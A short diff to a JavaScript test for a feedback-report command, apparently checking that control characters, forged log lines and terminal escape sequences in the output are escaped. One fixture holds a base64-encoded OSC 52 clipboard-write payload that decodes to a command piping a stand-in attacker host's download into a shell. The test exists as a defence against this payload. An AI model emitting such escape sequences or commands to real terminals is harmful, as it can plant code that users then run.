@@ -79,7 +79,7 @@ describe('npm run feedback:report', () => {
       expect(bytes.includes(0x1b)).toBe(false);
       expect(bytes.includes(0x07)).toBe(false);
       // eslint-disable-next-line no-control-regex -- control characters are what it looks for
-    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u);
+      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u);
       expect(text.split('\n')).not.toContain(forged);
       expect(text).toContain(`/api/overview\\u{000A}${forged}`);
       expect(text).toContain('Look: \\u{001B}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u{0007}');
